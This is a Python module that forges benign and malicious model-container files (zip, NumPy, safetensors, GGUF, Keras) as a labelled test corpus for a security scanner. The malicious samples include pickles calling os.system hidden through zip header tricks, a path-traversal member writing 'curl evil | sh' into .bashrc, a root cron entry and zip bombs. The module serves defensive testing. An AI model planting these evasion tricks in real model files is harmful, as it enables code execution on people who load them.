"""Container files for the corpus (imported by make-corpus.py): zips forged byte by byte, so every
quirk attackers use (local and central headers that disagree, hidden local entries, duplicates,
ZIP64, data descriptors, bombs, nesting) can be written; real torch.save, numpy.save(z) and a
Keras-shaped .keras; safetensors and GGUF headers written by hand. Nothing is ever loaded."""
import io
import json
import struct
import zlib

import numpy as np


def deflate(data):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def forge_zip(members, zip64=False, comment=b""):
    """members: dicts with name, data, and optionally method (0/8/other), flags, local_name,
    local_sizes (compressed, uncompressed), descriptor (bool), hidden (a local entry written
    before this one under the same name but left out of the central directory), declared_size."""
    out = bytearray()
    central = bytearray()
    count = 0
    for m in members:
        name = m["name"].encode()
        raw = m["data"]
        method = m.get("method", 0)
        body = deflate(raw) if method == 8 else raw
        crc = zlib.crc32(raw)
        flags = m.get("flags", 0) | (8 if m.get("descriptor") else 0)
        if "hidden" in m:
            h = m["hidden"]
            out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, zlib.crc32(h), len(h), len(h), len(name), 0) + name + h
        offset = len(out)
        size_c, size_u = m.get("local_sizes", (len(body), m.get("declared_size", len(raw))))
        local_name = m.get("local_name", m["name"]).encode()
        local_extra = b""
        if zip64:
            local_extra = struct.pack("<HHQQ", 1, 16, size_u, size_c)
            size_c_field = size_u_field = 0xFFFFFFFF
        else:
            size_c_field, size_u_field = size_c, size_u
        if m.get("descriptor"):
            size_c_field = size_u_field = 0
            local_extra = b""
            local_crc = 0
        else:
            local_crc = crc
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if zip64 else 20, flags, method, 0, 0, local_crc,
                           size_c_field, size_u_field, len(local_name), len(local_extra)) + local_name + local_extra
        out += body
        if m.get("descriptor"):
            out += struct.pack("<IIII", 0x08074B50, crc, len(body), len(raw))
        declared_u = m.get("declared_size", len(raw))
        if zip64:
            extra = struct.pack("<HHQQQ", 1, 24, declared_u, len(body), offset)
            fields = (0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        else:
            extra = b""
            fields = (len(body), declared_u, offset)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45 if zip64 else 20, 45 if zip64 else 20, flags, method,
                               0, 0, crc, fields[0], fields[1], len(name), len(extra), 0, 0, 0, 0, fields[2]) + name + extra
        count += 1
    cd_offset = len(out)
    out += central
    if zip64:
        record = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(central), cd_offset)
        out += struct.pack("<IIQI", 0x07064B50, 0, record, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, len(comment)) + comment
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset, len(comment)) + comment
    return bytes(out)


def npy(descr, shape, payload):
    header = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    header = header.encode()
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def safetensors(tensors, data, metadata=None, raw_header=None):
    header = dict(tensors)
    if metadata is not None:
        header["__metadata__"] = metadata
    text = raw_header if raw_header is not None else json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + data


def gguf_string(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(kvs, tensors, version=3, counts=None):
    body = b""
    for key, kind, value in kvs:
        body += gguf_string(key) + struct.pack("<I", kind) + value
    for name, dims, ggml_type, offset in tensors:
        body += gguf_string(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        body += struct.pack("<IQ", ggml_type, offset)
    n_tensors, n_kvs = counts if counts else (len(tensors), len(kvs))
    head = b"GGUF" + struct.pack("<IQQ", version, n_tensors, n_kvs)
    data = head + body
    data += b"\x00" * (-len(data) % 32)
    return data + b"\x00" * 32


def keras(layers):
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "sequential", "layers": layers}}
    return forge_zip([
        {"name": "metadata.json", "data": json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}).encode(), "method": 8},
        {"name": "config.json", "data": json.dumps(config).encode(), "method": 8},
        {"name": "model.weights.h5", "data": b"\x89HDF\r\n\x1a\n" + b"\x00" * 56},
    ])


def dense(name):
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": name, "units": 2, "activation": "relu",
                       "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}}}}


def add(write, evil, benign_pickle, torch_checkpoint):
    """evil: a pickle that calls os.system; benign_pickle: a harmless one; torch_checkpoint: the
    bytes of a real torch.save zip of a small state dict."""
    def c(name, data, malicious, callables=(), rules=(), trick="", **kw):
        write(name, data, malicious, callables, rules, trick, container=True, **kw)

    data_pkl = next(n for n in __import__("zipfile").ZipFile(io.BytesIO(torch_checkpoint)).namelist() if n.endswith("/data.pkl"))
    prefix = data_pkl[: -len("data.pkl")]
    storage = np.arange(6, dtype=np.float32).tobytes()
    # Benign
    c("benign-torch-zip.pt", torch_checkpoint, False, trick="torch.save zip checkpoint of a state dict (data.pkl, data/N storages, version)")
    buffer = io.BytesIO()
    np.save(buffer, np.linspace(-1, 1, 12, dtype=np.float64).reshape(3, 4))
    c("benign-npy-float.npy", buffer.getvalue(), False, trick="numpy.save of a float array")
    buffer = io.BytesIO()
    np.save(buffer, np.array([1, "two", 3.0], dtype=object), allow_pickle=True)
    c("benign-npy-object.npy", buffer.getvalue(), False, trick="numpy.save of an object array: its pickle rebuilds a NumPy array of builtins")
    buffer = io.BytesIO()
    np.savez(buffer, weights=np.ones((2, 3), dtype=np.float32), bias=np.zeros(3))
    c("benign-npz.npz", buffer.getvalue(), False, trick="numpy.savez: a zip of .npy members")
    buffer = io.BytesIO()
    np.savez_compressed(buffer, weights=np.arange(40, dtype=np.float32), labels=np.array(["a", "b"]))
    c("benign-npz-compressed.npz", buffer.getvalue(), False, trick="numpy.savez_compressed: deflated .npy members")
    c("benign-safetensors.safetensors",
      safetensors({"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]},
                   "b": {"dtype": "BF16", "shape": [3], "data_offsets": [24, 30]}},
                  storage + b"\x00" * 6, metadata={"format": "pt"}), False, trick="safetensors with two tensors and metadata")
    c("benign-gguf.gguf", gguf([("general.architecture", 8, gguf_string("llama")), ("llama.block_count", 4, struct.pack("<I", 2)),
                               ("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 2) + gguf_string("a") + gguf_string("b"))],
                              [("w", [3, 2], 0, 0)]), False, trick="GGUF v3 with string, integer and array values and one tensor")
    c("benign-keras.keras", keras([dense("d1"), dense("d2")]), False, trick="a .keras zip of Dense layers (config.json modules inside keras)")
    c("benign-zip-descriptor-zip64.pt",
      forge_zip([{"name": "archive/data.pkl", "data": benign_pickle, "method": 8, "descriptor": True},
                 {"name": "archive/version", "data": b"3\n"}], zip64=True),
      False, trick="ZIP64 end records and a deflated member with a data descriptor")
    # Malicious: zips
    evil_torch = forge_zip([{"name": prefix + "data.pkl", "data": evil}, {"name": prefix + "data/0", "data": storage},
                            {"name": prefix + "version", "data": b"3\n"}])
    c("torch-zip-reduce.pt", evil_torch, True, ["posix.system"], ["pickle.dangerous-global"], "torch-style zip whose data.pkl calls os.system")
    c("torch-zip-other-member.pt",
      forge_zip([{"name": prefix + "data.pkl", "data": benign_pickle}, {"name": prefix + "constants.pkl", "data": evil}]),
      True, ["posix.system"], ["pickle.dangerous-global"], "the payload in constants.pkl, not data.pkl: every pickle member is read")
    c("torch-zip-storage-named.pt",
      forge_zip([{"name": prefix + "data.pkl", "data": benign_pickle}, {"name": prefix + "data/7", "data": evil}]),
      True, ["posix.system"], ["pickle.dangerous-global"], "a pickle disguised as a tensor storage (data/7)")
    c("torch-zip-deflated.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "method": 8}]),
      True, ["posix.system"], ["pickle.dangerous-global"], "deflated data.pkl")
    c("torch-zip64.pt", forge_zip([{"name": "archive/data.pkl", "data": evil}], zip64=True),
      True, ["posix.system"], ["pickle.dangerous-global"], "ZIP64 records with ZIP64 extra fields")
    c("torch-zip-descriptor.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "method": 8, "descriptor": True}]),
      True, ["posix.system"], ["pickle.dangerous-global"], "data descriptor: local header sizes are zero")
    c("zip-local-name-differs.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "local_name": "archive/README.txt"}]),
      True, ["posix.system"], ["zip.header-mismatch", "pickle.dangerous-global"], "local header names another file than the central directory")
    c("zip-local-sizes-differ.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "local_sizes": (2, 2)}]),
      True, ["posix.system"], ["zip.header-mismatch", "pickle.dangerous-global"],
      "local sizes cut the member to two bytes; a scanner following them sees no import")
    c("zip-hidden-local-entry.pt",
      forge_zip([{"name": "archive/data.pkl", "data": evil, "hidden": benign_pickle}]),
      True, ["posix.system"], ["pickle.dangerous-global"],
      "a benign local entry first, the central directory points to the malicious second one (scanners walking local headers see the benign one)")
    c("zip-duplicate-names.pt",
      forge_zip([{"name": "archive/data.pkl", "data": benign_pickle}, {"name": "archive/data.pkl", "data": evil}]),
      True, ["posix.system"], ["zip.duplicate-name", "pickle.dangerous-global"], "two members named data.pkl")
    c("zip-path-traversal.zip", forge_zip([{"name": "../../home/user/.bashrc", "data": b"curl evil | sh\n"}]),
      True, [], ["zip.unsafe-path"], "member name climbs out of the extraction folder")
    c("zip-absolute-path.zip", forge_zip([{"name": "/etc/cron.d/job", "data": b"* * * * * root sh\n"}]),
      True, [], ["zip.unsafe-path"], "absolute member name")
    c("zip-bomb-ratio.zip", forge_zip([{"name": "zeros.bin", "data": b"\x00" * (8 << 20), "method": 8}]),
      True, [], ["container.limit-exceeded"], "8 MiB of zeros deflated about 1000 to 1")
    inner = forge_zip([{"name": "archive/data.pkl", "data": evil}])
    c("zip-nested-evil.zip", forge_zip([{"name": "outer/model.pt", "data": forge_zip([{"name": "inner.pt", "data": inner}])}]),
      True, ["posix.system"], ["pickle.dangerous-global"], "a zip in a zip in a zip; the innermost holds the payload")
    deep = b"benign\n"
    for level in range(6):
        deep = forge_zip([{"name": f"level{level}.zip" if level else "note.txt", "data": deep}])
    c("zip-nested-too-deep.zip", deep, True, [], ["container.limit-exceeded"], "zips nested six deep, past max_nesting")
    c("zip-encrypted-member.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "flags": 1}]),
      True, [], ["zip.unreadable-member"], "a member flagged as encrypted cannot be judged")
    c("zip-unknown-method.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "method": 12}]),
      True, [], ["zip.unreadable-member"], "a member compressed with bzip2 (method 12)")
    c("zip-no-directory.pt", evil_torch[: len(evil_torch) // 2], True, [], ["zip.malformed"], "a zip cut before its central directory")
    c("zip-declared-size-lies.pt", forge_zip([{"name": "archive/data.pkl", "data": evil, "method": 8, "declared_size": 10}]),
      True, ["posix.system"], ["zip.header-mismatch", "pickle.dangerous-global"], "the directory declares 10 bytes; the member inflates to more")
    # Malicious: NumPy
    c("npy-object-evil.npy", npy("'|O'", "(1,)", evil), True, ["posix.system"], ["pickle.dangerous-global"],
      "object dtype: numpy.load(allow_pickle=True) unpickles the payload")
    c("npy-structured-object-evil.npy", npy("[('w', '<f4'), ('x', '|O')]", "(1,)", evil), True, ["posix.system"],
      ["pickle.dangerous-global"], "a structured dtype with one object field")
    c("npz-object-evil.npz", forge_zip([{"name": "weights.npy", "data": npy("'<f4'", "(2,)", storage[:8])},
                                        {"name": "meta.npy", "data": npy("'|O'", "(1,)", evil), "method": 8}]),
      True, ["posix.system"], ["pickle.dangerous-global"], ".npz with a deflated object-array member")
    c("npy-bad-header-length.npy", b"\x93NUMPY\x01\x00\xff\xff{'descr'", True, [], ["npy.malformed"], "a header length past the file")
    # Malicious: safetensors
    w = {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 24]}
    c("safetensors-header-past-end.safetensors", struct.pack("<Q", 1 << 40) + b'{"w":{}}', True, [], ["safetensors.malformed"],
      "declared header length of 1 TiB")
    c("safetensors-overlap.safetensors", safetensors({"w": w, "v": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}, storage),
      True, [], ["safetensors.malformed"], "two tensors share bytes")
    c("safetensors-offsets-outside.safetensors", safetensors({"w": {"dtype": "F32", "shape": [2, 3], "data_offsets": [0, 4096]}}, storage),
      True, [], ["safetensors.malformed"], "data_offsets past the end of the file")
    c("safetensors-bad-dtype.safetensors", safetensors({"w": {"dtype": "OBJ", "shape": [2, 3], "data_offsets": [0, 24]}}, storage),
      True, [], ["safetensors.malformed"], "a dtype not in the format")
    c("safetensors-not-json.safetensors", safetensors({}, b"", raw_header=b'{"w": {"dtype": "F32", '), True, [],
      ["safetensors.malformed"], "a header that is not JSON")
    # Malicious: GGUF
    c("gguf-huge-counts.gguf", gguf([], [], counts=(1 << 40, 1 << 40)), True, [], ["gguf.malformed"], "tensor and key counts no file could hold")
    c("gguf-string-past-end.gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60) + b"key",
      True, [], ["gguf.malformed"], "a key string declaring 2^60 bytes")
    c("gguf-array-past-end.gguf", gguf([("a", 9, struct.pack("<IQ", 4, 1 << 50))], []), True, [], ["gguf.malformed"],
      "an array declaring 2^50 elements")
    # Malicious: Keras
    lam = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
           "config": {"name": "lambda", "function": {"module": "builtins", "class_name": "function",
                                                     "config": {"code": "4wEAAAAAAAAA", "defaults": None, "closure": None}}}}
    c("keras-lambda.keras", keras([dense("d1"), lam]), True, [], ["keras.lambda-layer"],
      "a Lambda layer with marshalled bytecode", source="CVE-2024-3660")
    custom = {"module": "os", "class_name": "system", "registered_name": "os>system", "config": {"name": "x"}}
    c("keras-custom-module.keras", keras([dense("d1"), custom]), True, ["os.system"], ["keras.custom-module"],
      "a layer whose module is os", source="CVE-2025-1550")
